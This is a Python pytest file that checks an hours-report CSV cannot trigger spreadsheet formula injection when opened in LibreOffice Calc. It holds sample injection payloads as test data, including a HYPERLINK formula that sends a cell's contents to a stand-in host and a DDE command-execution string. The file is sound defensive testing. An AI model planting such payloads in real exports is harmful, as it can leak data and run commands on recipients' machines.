"""The hours CSV opened in a real spreadsheet: no cell runs as a formula, text reads as typed, numbers
stay numbers (issue 18).

Anyone who can edit a contributor file can type a name; the finance team opens the report in a
spreadsheet. LibreOffice Calc (headless) turns the CSV into .xlsx as it would open it, and the
cells are read back from the .xlsx's own XML: a formula is an <f> element, a number a cell of
type "n". OWASP's rule: a cell that would start a formula gets an apostrophe in front, which
spreadsheets read as "this is text"; the rest of the cell is exactly what was typed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import textwrap
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from pipeline.workflow.hours import HoursReport, PersonHours, as_csv
from tests.conftest import run
from tests.factory import Bench

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice is not installed (apt-get install -y libreoffice-calc): the hours CSV must be opened"
    " in a real spreadsheet to show that no cell runs as a formula",
)

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# Calc's CSV import as a person opening the file gets it: comma-separated, "quoted", UTF-8 (76), from
# line 1, formulas evaluated (the default, and the danger). Headless, Calc would otherwise guess the
# machine's character set; with the dialog it finds UTF-8 from the byte-order mark the file starts with.
UTF8_CSV = "CSV:44,34,76,1"

# names as an attacker (or a careless paste) might type them into contributors/<id>.yaml
HOSTILE = {
    "hx": '=HYPERLINK("https://example.org/?q="&B5,"Your payment")',
    "cm": "=cmd|' /C calc'!A0",
    "ph": "+44 7700 900123",
    "mi": "-2+3",
    "at": "@SUM(1+1)",
    "qu": '"=2+2"',
    "cq": "\u201c=3+3",  # a Word quotation mark first
    "fw": "\uff1d4+4",  # a full-width equals sign
    "ok": "Zoë O'Neil-Hart",  # an ordinary name with an accent, a hyphen and an apostrophe: left as it is
}


def yaml_string(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture
def hostile(bench: Bench) -> Bench:
    for pid, name in HOSTILE.items():
        bench.write(f"contributors/{pid}.yaml", f"name: {yaml_string(name)}\ncredit: anonymous\n")
    path = bench.response / "response.yaml"
    text = path.read_text(encoding="utf-8")
    session = textwrap.indent(
        "- date: 2026-02-02\n"
        "  activity: Reading the draft aloud\n"
        "  hours: 1.5\n"
        "  rate: 14\n"
        f"  people: [{', '.join(HOSTILE)}]\n",
        "  ",
    )
    path.write_text(text.replace("involvement:\n", "involvement:\n" + session, 1), encoding="utf-8")
    return bench


def open_in_calc(csv_file: Path, tmp: Path) -> list[list[tuple[str, str, bool]]]:
    """The rows as LibreOffice Calc opens the CSV: (type, text or value, is a formula) for each cell."""
    out = tmp / "calc"
    out.mkdir()
    profile = (tmp / "lo-profile").as_uri()  # its own profile: another LibreOffice may be running
    assert SOFFICE is not None
    done = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile}", "--headless", f"--infilter={UTF8_CSV}"]
        + ["--convert-to", "xlsx", "--outdir", str(out), str(csv_file)],
        capture_output=True,
        text=True,
        timeout=180,
    )
    xlsx = out / (csv_file.stem + ".xlsx")
    assert xlsx.is_file(), done.stdout + done.stderr
    with zipfile.ZipFile(xlsx) as z:
        shared = [
            "".join(t.text or "" for t in si.iter(f"{MAIN}t"))
            for si in ET.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{MAIN}si")
        ]
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = []
        for c in row.iter(f"{MAIN}c"):
            kind, v = c.get("t", "n"), c.find(f"{MAIN}v")
            value = v.text or "" if v is not None else ""
            if kind == "s":
                value = shared[int(value)]
            elif kind == "inlineStr":
                value = "".join(t.text or "" for t in c.iter(f"{MAIN}t"))
            cells.append((kind, value, c.find(f"{MAIN}f") is not None))
        rows.append(cells)
    return rows


def test_no_name_runs_as_a_formula_and_each_reads_as_typed(hostile: Bench, tmp_path: Path) -> None:
    report = tmp_path / "hours.csv"
    result = run(["hours", "crisis-house", "--csv", "--out", str(report)], cwd=hostile.root)
    assert result.exit_code == 0, result.output
    rows = open_in_calc(report, tmp_path)
    formulas = [cell for row in rows for cell in row if cell[2]]
    assert not formulas, f"cells run as formulas: {formulas}"
    by_id = {row[0][1]: row for row in rows if row and row[0][1] in HOSTILE}
    assert set(by_id) == set(HOSTILE), sorted(by_id)
    for pid, name in HOSTILE.items():
        kind, shown, _ = by_id[pid][1]
        assert kind == "s", (pid, by_id[pid][1])
        assert shown in (name, "'" + name), f"{pid}: {shown!r} does not read as {name!r}"
        if pid == "ok":
            assert shown == name  # an ordinary name is not marked
        else:
            assert shown == "'" + name  # the one apostrophe that says "text", then exactly what was typed
        # sessions, hours, due, expenses, paid, to pay: numbers the finance team can add up
        numbers = by_id[pid][2:8]
        assert all(kind == "n" for kind, _, _ in numbers), (pid, numbers)
        assert [Decimal(v) for _, v, _ in numbers[1:3]] == [Decimal("1.5"), Decimal("21")]


def test_a_negative_amount_stays_a_number(tmp_path: Path) -> None:
    """Paid more than was due (an overpayment to recover): -5.00 is a number, not text and not a formula."""
    person = PersonHours("ab", "-Ab Lowe", sessions=1, hours=Decimal("2"), due=Decimal("20"), paid=Decimal("25"))
    report = HoursReport("r", "=A Response", "responses/r/response.yaml", dt.date(2026, 11, 20), [person], 1, 0, True)
    text = as_csv(report)
    assert next(csv.reader(io.StringIO(text.splitlines()[-2])))[-2] == "-5.00"  # as written
    path = tmp_path / "owed.csv"
    path.write_text(text, encoding="utf-8")
    rows = open_in_calc(path, tmp_path)
    assert not [cell for row in rows for cell in row if cell[2]]
    person_row = next(row for row in rows if row and row[0][1] == "ab")
    assert person_row[1][:2] == ("s", "'-Ab Lowe")
    assert person_row[7][0] == "n" and Decimal(person_row[7][1]) == Decimal("-5")
